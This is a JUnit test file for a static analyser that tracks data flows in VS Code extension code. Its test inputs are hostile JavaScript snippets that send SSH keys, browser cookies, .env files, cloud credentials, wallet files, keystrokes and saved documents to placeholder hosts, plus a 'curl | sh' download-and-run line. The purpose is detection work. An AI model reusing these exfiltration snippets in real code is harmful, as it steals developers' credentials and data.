package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vsxray.scanner.model.Feature;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Data in lists of the editor, behind strung calls, in files where it is parked and in commands that take it along. */
class ListsAndFilesTest {

    @Test
    void looksAtEachElementOfAListOfTheEditor() {
        Analysis analysis = Analysis.ofActivate("""
                const texts = vscode.window.visibleTextEditors.map(editor => editor.document.getText());
                fetch('https://lists.example/t', { method: 'POST', body: JSON.stringify(texts) });
                """);

        assertThat(analysis.flowNames()).containsExactly("editor-document -> network-send");
    }

    @Test
    void staysWithTheObjectWhenCallsAreStrungTogether() {
        Analysis analysis = Analysis.ofActivate("""
                https.request('https://chain.example/c', { method: 'POST' }).on('error', () => {}).end(JSON.stringify(process.env));
                """);

        assertThat(analysis.flowNames()).containsExactly("environment -> network-send");
    }

    @Test
    void remembersWhatAFormHolds() {
        Analysis analysis = Analysis.ofActivate("""
                const form = new FormData();
                form.append('key', new Blob([fs.readFileSync(os.homedir() + '/.ssh/id_rsa')]));
                fetch('https://form.example/f', { method: 'POST', body: form });
                """);

        assertThat(analysis.flowNames()).containsExactly("ssh-credentials -> network-send");
    }

    @Test
    void followsAFileThatIsCopiedBeforeItIsRead() {
        Analysis analysis = Analysis.ofActivate("""
                fs.copyFileSync(os.homedir() + '/.config/google-chrome/Default/Cookies', '/tmp/c');
                fetch('https://copy.example/c', { method: 'POST', body: fs.readFileSync('/tmp/c') });
                """);

        assertThat(analysis.flowNames()).contains("browser-data -> network-send");
    }

    @Test
    void aMapHoldsTheDataOfItsKeys() {
        Analysis analysis = Analysis.ofActivate("""
                const seen = new Map();
                vscode.workspace.onDidSaveTextDocument(saved => seen.set(saved.getText(), 1));
                setInterval(() => {
                  fetch('https://seen.example/entries', { method: 'POST', body: JSON.stringify([...seen]) });
                  fetch('https://seen.example/keys', { method: 'POST', body: [...seen.keys()].join() });
                  fetch('https://seen.example/values', { method: 'POST', body: [...seen.values()].join() });
                  seen.forEach((count, text) => fetch('https://seen.example/each', { method: 'POST', body: text }));
                  seen.forEach(count => fetch('https://seen.example/count', { method: 'POST', body: String(count) }));
                }, 60000);
                """);

        assertThat(analysis.destinations("editor-document", "network-send"))
                .containsExactlyInAnyOrder(
                        "https://seen.example/entries", "https://seen.example/keys", "https://seen.example/each");
    }

    @Test
    void followsAFileThatIsRenamedBeforeItIsRead() {
        Analysis analysis = Analysis.ofActivate("""
                vscode.workspace.onDidSaveTextDocument(saved => fs.appendFileSync('/tmp/log', saved.getText()));
                setInterval(() => {
                  fs.renameSync('/tmp/log', '/tmp/log.1');
                  fetch('https://log.example/l', { method: 'PUT', body: fs.readFileSync('/tmp/log.1') });
                }, 60000);
                """);

        assertThat(analysis.destinations("editor-document", "network-send")).containsExactly("https://log.example/l");
    }

    @Test
    void doesNotMistakeAnotherFileForTheCopy() {
        Analysis analysis = Analysis.ofActivate("""
                fs.copyFileSync(os.homedir() + '/.config/google-chrome/Default/Cookies', '/tmp/c');
                fetch('https://copy.example/c', { method: 'POST', body: fs.readFileSync('/tmp/other') });
                """);

        assertThat(analysis.flowNames()).doesNotContain("browser-data -> network-send");
    }

    @Test
    void followsAnArchiveThatACommandMakes() {
        Analysis analysis = Analysis.ofActivate("""
                cp.execSync('tar czf /tmp/w.tgz .');
                fetch('https://archive.example/a', { method: 'POST', body: fs.readFileSync('/tmp/w.tgz') });
                """);

        assertThat(analysis.flowNames()).contains("workspace-file -> network-send");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "'php', ['-r', 'foreach (glob(\".env*\") as $f) file_get_contents(\"https://lint.example/\" . rawurlencode(file_get_contents(\"./.env\")));']",
                "'python3', ['-c', 'import urllib.request as u; u.urlopen(\"https://lint.example/\", open(\"./.env\", \"rb\").read())']",
                "'ruby', ['-e', 'require \"net/http\"; Net::HTTP.post(URI(\"https://lint.example/\"), File.read(\"./.env\"))']",
            })
    void followsAFileThatCodeOfAnotherLanguageSends(String command) {
        Analysis analysis =
                Analysis.ofActivate("require('child_process').spawn(" + command + ", { stdio: 'ignore' });");

        assertThat(analysis.flowNames()).contains("env-file -> network-send");
    }

    @Test
    void followsAFileThatACommandSends() {
        Analysis analysis = Analysis.ofActivate("""
                vscode.workspace.onDidSaveTextDocument(document => {
                  fs.writeFileSync('/tmp/x', document.getText());
                  cp.execFile('curl', ['-s', '-F', 'file=@/tmp/x', 'https://form.example/u']);
                });
                """);

        assertThat(analysis.flowNames()).contains("editor-document -> network-send");
    }

    @Test
    void followsAPipelineToAProgramFile() {
        Analysis analysis = Analysis.ofActivate("""
                const { pipeline } = require('stream/promises');
                https.get('https://files.example/p', response => pipeline(response, fs.createWriteStream('/tmp/p.exe')));
                """);

        assertThat(analysis.flowNames()).containsExactly("network-response -> executable-write");
    }

    @Test
    void followsAFileThatIsSentByItsPath() {
        Analysis analysis = Analysis.ofActivate("""
                const client = new (require('basic-ftp').Client)();
                client.access({ host: '192.0.2.5' });
                client.uploadFrom(os.homedir() + '/.electrum/wallets/default_wallet', 'w');
                """);

        assertThat(analysis.flowNames()).containsExactly("wallet-data -> network-send");
    }

    @Test
    void takesAMemberOfChildProcessThatIsChosenAtRunTimeForOneThatStartsPrograms() {
        Analysis analysis = Analysis.ofActivate("""
                const name = Object.keys(cp).find(key => key.length === 4);
                cp[name]('curl -s https://get.example/x | sh');
                """);

        assertThat(analysis.flowNames()).containsExactly("network-response -> process-command");
    }

    @Test
    void hearsKeysWhenTheCommandThatTypesIsTaken() {
        Analysis analysis = Analysis.ofActivate("""
                vscode.commands.registerCommand('type', key => fetch('https://keys.example/k', { method: 'POST', body: key.text }));
                """);

        assertThat(analysis.flowNames()).contains("keystrokes -> network-send");
    }

    /** A program whose steps are data: what is done stands in a file beside it, whose name the program does not hold. */
    private static final String RUNS_STEPS = """
            const fs = require('fs'), os = require('os'), path = require('path');
            const steps = {
              home: (state, name) => { state.at = path.join(os.homedir(), name); },
              read: state => { state.text = fs.readFileSync(state.at, 'utf8'); },
              send: (state, url) => fetch(url, { method: 'POST', body: state.text }),
            };
            const run = async plan => {
              const state = {};
              for (const [name, ...given] of plan) await steps[name]?.(state, ...given);
            };
            exports.activate = async context => {
              %s
            };
            """;

    private static final String KEY_LEAVES =
            "[[\"home\", \".ssh/id_rsa\"], [\"read\"], [\"send\", \"https://plan.example/p\"]]";

    @ParameterizedTest
    @ValueSource(
            strings = {
                "const at = context.asAbsolutePath('plans');"
                        + " for (const name of fs.readdirSync(at)) run(JSON.parse(fs.readFileSync(path.join(at, name))));",
                "const at = path.join(__dirname, 'plans'); for (const one of fs.readdirSync(at, { withFileTypes: true }))"
                        + " if (one.isFile()) run(JSON.parse(fs.readFileSync(path.join(at, one.name))));",
                "const at = context.asAbsolutePath('plans'); fs.readdir(at, (error, names) => { for (const name of names)"
                        + " run(JSON.parse(fs.readFileSync(path.join(at, name)))); });",
                "const at = require('vscode').Uri.joinPath(context.extensionUri, 'plans');"
                        + " for (const [name] of await require('vscode').workspace.fs.readDirectory(at))"
                        + " run(JSON.parse(fs.readFileSync(require('vscode').Uri.joinPath(at, name).fsPath)));",
            })
    void followsStepsThatStandInAFileOfAListedFolderOfThePackage(String start) {
        Analysis analysis = Analysis.of(Map.of(
                "extension.js", RUNS_STEPS.formatted(start), "plans/weekly.json", KEY_LEAVES, "plain.json", "[]"));

        assertThat(analysis.flowNames()).contains("ssh-credentials -> network-send");
    }

    @Test
    void listsOnlyTheFolderThatIsAskedFor() {
        Analysis analysis = Analysis.of(Map.of(
                "extension.js",
                RUNS_STEPS.formatted(
                        "const at = context.asAbsolutePath('plans');"
                                + " for (const name of fs.readdirSync(at)) run(JSON.parse(fs.readFileSync(path.join(at, name))));"),
                "plans/weekly.json",
                "[[\"home\", \".ssh/id_rsa\"], [\"read\"]]",
                "samples/never.json",
                KEY_LEAVES));

        assertThat(analysis.flowNames()).isEmpty();
    }

    @Test
    void whatAFlatteningCallbackGivesForSomeElementsOnlyIsWhatTheListHolds() {
        Analysis analysis = Analysis.ofActivate("""
                const rows = fs.readFileSync('settings.txt', 'utf8').split('\\n').flatMap(line => {
                  const parts = /(\\w+)=(.*)/.exec(line);
                  if (!parts) return [];
                  return [{ name: parts[1], value: parts[2] }];
                });
                for (const row of rows) fetch('https://far.example/', { body: Buffer.from(row.value).toString('base64') });
                """);

        assertThat(analysis.flowNames()).containsExactly("local-file -> network-send");
    }

    @Test
    void flatteningTakesApartWhatMayBeAList() {
        Analysis analysis = Analysis.ofActivate("""
                const known = Math.random() > 0.5 ? [{ name: os.hostname() }] : [];
                for (const row of [known].flat()) fetch('https://far.example/' + Buffer.from(row.name).toString('hex'));
                """);

        assertThat(analysis.flowNames()).containsExactly("account-identity -> network-url");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "const kept = { [os.hostname()]: 1 };",
                "const kept = {}; kept[os.hostname()] = 1;",
                "const kept = Object.fromEntries([[os.hostname(), 1]]);",
                "const first = {}; first[os.hostname()] = 1; const kept = { ...first };",
                "const first = {}; first[os.hostname()] = 1; const kept = Object.keys(first);",
                "const first = {}, kept = []; first[os.hostname()] = 1; for (const name in first) kept.push(name);"
            })
    void dataIsKeptInNamesOfPropertiesToo(String keeping) {
        Analysis analysis = Analysis.ofActivate(
                keeping + "fetch('https://names.example/', { method: 'POST', body: JSON.stringify(kept) });");

        assertThat(analysis.flowNames()).containsExactly("account-identity -> network-send");
    }

    @Test
    void aValueIsNotTheNameItIsKeptUnder() {
        Analysis analysis = Analysis.ofActivate("""
                const ports = {};
                ports[os.hostname()] = 8080;
                for (const host in ports) fetch('https://values.example/' + ports[host]);
                """);

        assertThat(analysis.flowNames()).isEmpty();
    }

    @Test
    void aValueThatIsDefinedTakesThePlaceOfAGetter() {
        Analysis analysis = Analysis.ofActivate("""
                const kept = {};
                Object.defineProperty(kept, 'name', { get: () => 'none', configurable: true });
                Object.defineProperty(kept, 'name', { value: os.hostname() });
                fetch('https://defined.example/' + kept.name);
                """);

        assertThat(analysis.flowNames()).containsExactly("account-identity -> network-url");
    }

    @Test
    void eachLineIsSentOnceTheFarEndHasAnsweredAsOften() {
        Analysis analysis = Analysis.ofActivate("""
                vscode.workspace.onDidSaveTextDocument(document => {
                  const lines = ['EHLO localhost', 'MAIL FROM:<a@post.example>', 'RCPT TO:<b@post.example>', 'DATA', document.getText(), 'QUIT'];
                  const socket = require('net').connect(25, 'post.example');
                  socket.on('data', () => { const line = lines.shift(); if (line) socket.write(line); });
                });
                """);

        assertThat(analysis.flowNames()).contains("editor-document -> network-send");
    }

    @Test
    void whatIsPutInAListIsSeenByATimerThatRanBefore() {
        Analysis analysis = Analysis.ofActivate("""
                const waiting = [];
                const send = list => { for (const text of list) fetch('https://lists.example/t', { method: 'POST', body: text }); };
                setInterval(() => { if (waiting.length > 0) send(waiting); }, 1000);
                vscode.workspace.onDidSaveTextDocument(document => waiting.push(document.getText()));
                """);

        assertThat(analysis.flowNames()).contains("editor-document -> network-send");
    }

    @Test
    void aProgramIsGivenEachPathOfAFilteredList() {
        Analysis analysis = Analysis.ofActivate("""
                const home = os.homedir(), kept = ['.aws/credentials', '.kube/config'].filter(name => fs.existsSync(home + '/' + name));
                const tar = cp.spawn('tar', ['-cz', '-C', home, ...kept]), far = cp.spawn('ssh', ['drop@far.example', 'cat > in.tgz']);
                tar.stdout.pipe(far.stdin);
                """.replace("cp.", "require('child_process')."));

        assertThat(analysis.flowNames()).contains("cloud-credentials -> network-send");
    }

    @Test
    void aLongListOfRecordsIsDataAndNoPartOfTheProgram() {
        Analysis analysis = Analysis.ofActivate("""
                const all = [];
                for (let i = 0; i < 60; i++) all.push({ name: 'n' + i, host: [os.hostname()] });
                fetch('https://lists.example/t', { method: 'POST', body: { all } });
                """);

        assertThat(analysis.flows("account-identity", "network-send"))
                .isNotEmpty()
                .noneMatch(Feature.Flow::assumed);
    }

    @ParameterizedTest
    @ValueSource(strings = {"'w'", "'w+'"})
    void whatStandsForAFileThatIsEmptiedHoldsNothing(String flags) {
        Analysis analysis = Analysis.ofActivate("""
                const file = fs.openSync(os.homedir() + '/.ssh/id_rsa', FLAGS);
                fetch('https://lists.example/t', { method: 'POST', body: JSON.stringify({ file }) });
                """.replace("FLAGS", flags));

        assertThat(analysis.flows("ssh-credentials", "network-send")).isEmpty();
    }
}
